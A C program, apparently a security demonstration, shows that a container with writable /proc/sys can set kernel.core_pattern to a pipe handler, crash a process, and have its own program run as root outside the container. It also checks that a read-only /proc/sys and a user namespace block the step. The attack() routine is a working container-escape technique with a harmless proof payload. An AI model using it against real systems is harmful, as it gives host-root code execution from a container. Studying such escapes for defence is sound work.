/*
 * A setting that runs programs: if kernel.core_pattern begins with |, the kernel starts what follows for every process that
 * dumps core, as root of the outside, whatever namespaces the process was in (core(5)).
 *
 * Shown: a container that may write to /proc/sys sets it, crashes, and its program runs outside; one whose /proc/sys is read-only
 * cannot set it; one in a user namespace neither. The program that is run is this one: it writes down which root it had.
 *
 * Runs as root of a machine with a kernel of its own, and puts the setting back. Man pages: core(5), proc_sys_kernel(5),
 * user_namespaces(7), mount(2).
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <sys/resource.h>

#include "../newroot.h"

enum { ORDINARY = 12345 };
enum flag { WRITABLE, READ_ONLY, USER_NAMESPACE };

static const char SETTING[] = "/proc/sys/kernel/core_pattern", PROOF[] = "proof";
static char before[256], own[4096];

static int write_setting(const char *text)
{
    int fd = open(SETTING, O_WRONLY | O_CLOEXEC);
    if (fd == -1)
        return errno;
    int error = write(fd, text, strlen(text)) == (ssize_t)strlen(text) ? 0 : errno;
    close(fd);
    return error;
}

static void read_setting(void)
{
    int fd = open(SETTING, O_RDONLY | O_CLOEXEC);
    ssize_t got = fd == -1 ? -1 : read(fd, before, sizeof before - 1);
    if (got == -1 || close(fd) == -1)
        die(SETTING);
    before[got] = '\0';
}

/* Started by the kernel, with the core on standard input. The name is one of the outside. */
static int be_handler(const char *proof)
{
    int fd = open(proof, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
    if (fd == -1 || write(fd, geteuid() == 0 ? "r" : "u", 1) != 1)
        return 1;
    char bytes[4096];
    while (read(STDIN_FILENO, bytes, sizeof bytes) > 0)
        continue; /* the process that crashed waits until its core was taken */
    return 0;
}

static void crash(void)
{
    struct rlimit any = {RLIM_INFINITY, RLIM_INFINITY};
    setrlimit(RLIMIT_CORE, &any);
    prctl(PR_SET_DUMPABLE, 1, 0, 0, 0);
    signal(SIGABRT, SIG_DFL);
    abort();
}

static void make_read_only(void)
{
    if (mount("/proc/sys", "/proc/sys", NULL, MS_BIND, NULL) == -1 ||
        mount(NULL, "/proc/sys", NULL, MS_BIND | MS_REMOUNT | MS_RDONLY, NULL) == -1)
        die("/proc/sys");
}

static _Noreturn void attack(enum flag flag)
{
    char wanted[sizeof own + 64];
    snprintf(wanted, sizeof wanted, "|%.100s/pattern --core %.100s/%s", own, own, PROOF);
    enter_new_root("place");
    if (flag == READ_ONLY)
        make_read_only();
    int error = write_setting(wanted);
    if (error != 0)
        _exit(error);
    pid_t child = start_child();
    if (child == 0)
        crash();
    wait_for(child);
    _exit(0);
}

static const char *run(enum flag flag)
{
    pid_t maker = start_child();
    if (maker == 0) {
        int user = flag == USER_NAMESPACE ? CLONE_NEWUSER : 0;
        if (user != 0)
            become_ordinary(ORDINARY);
        if (unshare(user | CLONE_NEWNS | CLONE_NEWPID) == -1)
            _exit(errno);
        if (user != 0)
            map_root(ORDINARY);
        pid_t inside = start_child();
        if (inside == 0)
            attack(flag);
        _exit(WEXITSTATUS(wait_for(inside)));
    }
    return verdict(WEXITSTATUS(wait_for(maker)));
}

static const char *proof(void)
{
    char letter = '?';
    int fd = open(PROOF, O_RDONLY | O_CLOEXEC);
    if (fd == -1)
        return "no";
    if (read(fd, &letter, 1) != 1)
        letter = '?';
    close(fd);
    unlink(PROOF);
    return letter == 'r' ? "yes, as root" : "yes";
}

int main(int argc, char *argv[])
{
    if (argc == 3 && strcmp(argv[1], "--core") == 0)
        return be_handler(argv[2]);
    if (getcwd(own, sizeof own) == NULL || (mkdir("place", 0755) == -1 && errno != EEXIST))
        die("setting up");
    read_setting();
    unlink(PROOF);
    const char *writable = run(WRITABLE);
    printf("{\"writable\": \"%s\", \"ran_outside\": \"%s\", ", writable, proof());
    fflush(stdout);
    if (strcmp(writable, "allowed") == 0 && write_setting(before) != 0)
        die("putting the setting back");
    const char *read_only = run(READ_ONLY);
    printf("\"read_only\": \"%s\", \"ran_from_read_only\": \"%s\", ", read_only, proof());
    fflush(stdout);
    const char *mapped = run(USER_NAMESPACE);
    printf("\"user_namespace\": \"%s\", \"ran_from_user_namespace\": \"%s\"}\n", mapped, proof());
    return 0;
}
